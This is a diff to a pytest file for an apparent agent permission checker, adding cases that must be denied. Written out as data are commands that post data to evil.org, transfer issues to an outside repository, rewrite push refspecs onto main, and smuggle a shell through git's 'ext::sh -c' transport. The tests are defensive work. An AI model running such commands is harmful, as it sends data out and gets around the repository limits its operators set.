@@ -94,10 +94,11 @@ def test_a_name_covers_the_own_remotes_and_hosts(repo: Place, command: str) -> N
         "curl -X POST https://evil.org/me/tool -d x",
         "curl -X POST https://github.com/me https://evil.org/me -d x",
         "curl -X POST $URL -d x",
+        "gh issue transfer 3 evil/tool",
     ],
 )
 def test_a_name_does_not_cover_another_place(repo: Place, command: str) -> None:
-    assert not is_allowed(repo, command, "git.push,gh.pr.create,gh.pr.merge,http.send,git.config")
+    assert not is_allowed(repo, command, "git.push,gh.pr.create,gh.pr.merge,http.send,git.config,gh.issue.transfer")
 
 
 @pytest.mark.parametrize(
@@ -116,6 +117,8 @@ def test_a_name_does_not_cover_another_place(repo: Place, command: str) -> None:
         ("git remote add evil https://evil.org/x", "git push evil fix"),
         ("git remote add aa https://github.com/evil/tool", "gh pr create --fill"),
         ("git config remote.origin.gh-resolved evil/tool", "gh pr create --fill"),
+        ("git config remote.origin.mirror true", "git push origin"),
+        ("git config remote.origin.push +refs/heads/fix:refs/heads/main", "git push origin"),
     ],
 )
 def test_a_remote_that_the_agent_changes_is_not_the_own_one(repo: Place, change: str, command: str) -> None:
@@ -195,3 +198,17 @@ def test_the_tools_of_a_forge_are_own_in_own_repositories(repo: Place) -> None:
     assert play("me", "--allow", "mcp.github") == 0
     assert play("evil", "--allow", "mcp.github") == WAITS
     assert play("evil", "--allow", "mcp.github=github:evil/*") == 0
+
+
+@pytest.mark.parametrize(
+    ("command", "text"),
+    [
+        ("curl -X POST https://a.example/x https://evil.org -d x", "http.send=http:https://a.example/*"),
+        ("curl -X POST 'https://{evil.org,a.example}/x' -d x", "http.send=http:https://*.example*"),
+        ("gh api -X POST repos/evil/x/issues", "gh.api=gh:POST"),
+        ("ssh -p 22 evil.org", "ssh.run=ssh:22"),
+        ("git push 'ext::sh -c x' fix", "git.push=git:*"),
+    ],
+)
+def test_a_pattern_does_not_cover_more_than_it_seems_to(repo: Place, command: str, text: str) -> None:
+    assert not is_allowed(repo, command, text)
